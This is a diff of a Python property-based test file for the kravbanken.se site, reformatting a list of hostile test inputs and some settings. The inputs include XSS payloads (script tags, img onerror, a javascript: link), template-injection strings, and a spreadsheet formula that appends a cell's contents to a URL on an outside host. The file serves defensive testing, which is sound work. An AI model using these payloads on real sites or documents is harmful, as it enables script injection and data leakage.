@@ -43,17 +43,48 @@ from kravbanken.site.good_practice import profile_page
 from kravbanken.site.risk_areas import risk_area_page
 
 SITE_URL = "https://kravbanken.se/"
-PIECES = ["<script>alert(1)</script>", "</title><script>alert(2)</script>", "<img src=x onerror=alert(3)>",
-          "<b>fet</b>", "{{ 7*7 }}", "{% include 'mkdocs.yml' %}", '=HYPERLINK("https://x.se/?"&A2)', "+1", "-1",
-          "@SUM(A1)", "\t", "\r", "\n", "\n\n- punkt", "[länk](javascript:alert(4))", "*stjärnor*", "&amp;", "\"'",
-          "\u202e", "\u200b", "\u2800", "\ufeff", "\uffff", "\x00", "\x1b", "\x85", "\u2028", "x" * 25_000,
-          "Leverantören ska", " "]
+PIECES = [
+    "<script>alert(1)</script>",
+    "</title><script>alert(2)</script>",
+    "<img src=x onerror=alert(3)>",
+    "<b>fet</b>",
+    "{{ 7*7 }}",
+    "{% include 'mkdocs.yml' %}",
+    '=HYPERLINK("https://x.se/?"&A2)',
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t",
+    "\r",
+    "\n",
+    "\n\n- punkt",
+    "[länk](javascript:alert(4))",
+    "*stjärnor*",
+    "&amp;",
+    "\"'",
+    "\u202e",
+    "\u200b",
+    "\u2800",
+    "\ufeff",
+    "\uffff",
+    "\x00",
+    "\x1b",
+    "\x85",
+    "\u2028",
+    "x" * 25_000,
+    "Leverantören ska",
+    " ",
+]
 # Mostly printable text around the pieces, so that many examples pass the validator and reach the outputs.
 PRINTABLE = st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=12)
 HOSTILE = st.lists(st.one_of(st.sampled_from(PIECES), PRINTABLE), min_size=1, max_size=5).map("".join)
 # The number of examples comes from the Hypothesis profile that tests/conftest.py loads.
-BUDGET = settings(derandomize=True, deadline=None, database=None,
-                  suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
+BUDGET = settings(
+    derandomize=True,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
+)
 # Fields that are free text: the texts of every kind ({sv, en}) and the criteria's lists of words.
 FREE = re.compile(r"(.*\.(sv|en)|tags\.\d+|legal_basis\.\d+|references\.\d+\.title|countries\.\d+)")
 NAMES = {("title", "sv"), ("name", "sv"), ("organisation", "sv")}  # shown on every page of the record
@@ -139,7 +170,7 @@ def assert_downloads_safe(lib, record_id: str):
     record = lib.criteria[record_id]
     assert json.loads(record_json(record)) == record
     document = docx.Document(io.BytesIO(criterion_docx(lib, record, SITE_URL)))
-    assert document.core_properties.title == f'{record_id} {record["title"]["sv"]}'
+    assert document.core_properties.title == f"{record_id} {record['title']['sv']}"
 
 
 @pytest.mark.parametrize("kind", ["criterion", "coc_clause", "convention", "risk_area", "follow_up", "profile"])
